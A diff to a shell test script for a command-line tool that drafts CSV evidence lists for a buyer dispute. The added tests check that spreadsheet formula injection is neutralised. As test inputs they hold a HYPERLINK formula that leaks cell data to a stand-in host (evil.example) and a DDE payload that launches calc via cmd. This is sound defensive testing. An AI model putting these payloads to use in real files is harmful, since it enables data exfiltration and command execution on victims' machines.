@@ -245,6 +245,21 @@ cp -R c quoted || exit 1
 expect 0 "draft evidence-list --csv with a quote in a note" "$DISPUTE" -C quoted draft evidence-list --csv
 check "the CSV has 4 rows after a fourth item" test "$(wc -l <out)" -eq 5
 contains out '"4","商品问题照片/视频（接口""松动"",无法充电）",' "quotes are doubled inside a quoted field"
+# What the buyer wrote (or a case someone sent) is never run as a spreadsheet formula:
+# a cell starting with = + - @ or a tab gets an apostrophe inside its quotes.
+cp -R c formula || exit 1
+"$DISPUTE" -q -C formula add-evidence -k defect --proves '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' \
+    "$EVIDENCE/no-power.mp4" >/dev/null &&
+"$DISPUTE" -q -C formula add-evidence -k order --proves "@SUM(1+1)*cmd|' /C calc'!A0" \
+    "$EVIDENCE/invoice.pdf" >/dev/null &&
+"$DISPUTE" -q -C formula add-evidence -k other --proves "$(printf '\t-1+2')" \
+    "$EVIDENCE/call.mp3" >/dev/null || exit 1
+expect 0 "draft evidence-list --csv with formulas as purposes" "$DISPUTE" -C formula draft evidence-list --csv
+contains out '"'"'"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"' "a cell starting with = starts with an apostrophe"
+contains out "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" "a cell starting with @ starts with an apostrophe"
+contains out "\"'$(printf '\t')-1+2\"" "a cell starting with a tab starts with an apostrophe"
+lacks out '"=' "no cell starts with ="
+lacks out '"@' "no cell starts with @"
 
 # Missing facts: the list of `dispute set` lines, and nothing written.
 "$DISPUTE" -q init f || exit 1
